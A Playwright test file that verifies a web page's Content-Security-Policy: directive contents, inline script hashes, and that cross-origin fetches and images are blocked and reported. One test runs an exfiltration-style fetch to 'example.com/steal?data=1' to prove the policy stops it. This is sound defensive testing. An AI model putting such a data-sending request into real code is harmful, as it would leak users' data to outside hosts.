"""The page runs under its own Content-Security-Policy (index.html's meta tag: GitHub Pages sets no headers), and the
policy blocks and reports a request to another origin.

Unlike the other browser tests (conftest's contexts bypass the policy so that Playwright's wait_for_function may use
eval), these contexts enforce it: the waits here are selectors and auto-retrying expectations, which need no eval."""

from __future__ import annotations

import base64
import hashlib
import re

import pytest
from playwright.sync_api import expect

from conftest import DIST

POLICY = {"script-src": {"'self'", "'wasm-unsafe-eval'"}, "worker-src": {"'self'"}, "connect-src": {"'self'"},
          "style-src": {"'self'"}, "default-src": {"'self'"}}


def policy_text() -> str:
    html = (DIST / "index.html").read_text()
    match = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
    assert match, "index.html has no Content-Security-Policy meta tag"
    assert html.index("Content-Security-Policy") < html.index("<script"), "the policy must come before any script"
    return match.group(1)


def test_policy_allows_only_the_pages_own_origin():
    directives = {d.split()[0]: set(d.split()[1:]) for d in policy_text().split(";") if d.strip()}
    # build.py writes two tiny head scripts into the page; each is allowed by its own sha256, nothing else inline
    inline = re.findall(r"<script>(.*?)</script>", (DIST / "index.html").read_text(), re.S)
    assert len(inline) == 2 and "data-inline>" not in (DIST / "index.html").read_text()
    hashes = {"'sha256-" + base64.b64encode(hashlib.sha256(code.encode()).digest()).decode() + "'" for code in inline}
    assert directives["script-src"] == POLICY["script-src"] | hashes, directives["script-src"]
    for name, sources in POLICY.items():
        if name != "script-src":
            assert directives.get(name) == sources, (name, directives.get(name))
    assert directives["img-src"] <= {"'self'", "data:", "blob:"}


@pytest.fixture
def csp_page(browser, site_url):
    context = browser.new_context(viewport={"width": 1400, "height": 1000})  # bypass_csp is off: the policy holds
    errors, outside = [], []

    def route(r):
        if r.request.url.startswith(("http://127.0.0.1:", "data:", "blob:")):
            r.continue_()
        else:
            outside.append(r.request.url)
            r.abort()

    context.route("**/*", route)
    page = context.new_page()
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(f"pageerror: {e}"))
    yield page, errors, outside
    context.close()


def test_page_boots_and_trains_under_the_policy(csp_page, site_url):
    page, errors, outside = csp_page
    page.goto(site_url + "#dataset=circle&networkShape=4&activation=relu&seed=7")
    page.wait_for_selector("body[data-panels='1']", timeout=90_000)  # worker booted, panels loaded (CSP on)
    assert page.get_attribute("body", "data-error") is None
    page.click("#play-pause-button")
    expect(page.locator("#iter-number")).not_to_have_text("000,000")
    page.click("#play-pause-button")
    page.click("#bd-plant")  # a lazily loaded panel's call into the worker
    page.wait_for_selector("#bd-agreement")
    assert errors == [], errors
    assert outside == []


def test_cross_origin_request_is_blocked_and_reported(csp_page, site_url):
    page, errors, outside = csp_page
    page.goto(site_url)
    page.wait_for_selector("body[data-ready='1']", timeout=90_000)
    # Page-side JavaScript (CDP evaluate is not subject to the policy; the fetch inside it is).
    result = page.evaluate("""async () => {
        const seen = new Promise((resolve) => document.addEventListener("securitypolicyviolation",
            (e) => resolve({directive: e.effectiveDirective, blocked: e.blockedURI}), {once: true}));
        let error = null;
        try { await fetch("https://example.com/steal?data=1"); } catch (e) { error = String(e); }
        return {error, violation: await seen};
    }""")
    assert result["error"] and "Failed to fetch" in result["error"]
    assert result["violation"]["directive"] == "connect-src"
    assert result["violation"]["blocked"].startswith("https://example.com")
    assert outside == [], "the request must not even leave the page"
    assert any("Content Security Policy" in e for e in errors), errors  # the browser's console report
    # An image from elsewhere is refused too.
    page.evaluate("""() => new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", resolve, {once: true});
        const img = new Image(); img.src = "https://example.com/pixel.png"; })""")
    assert outside == []
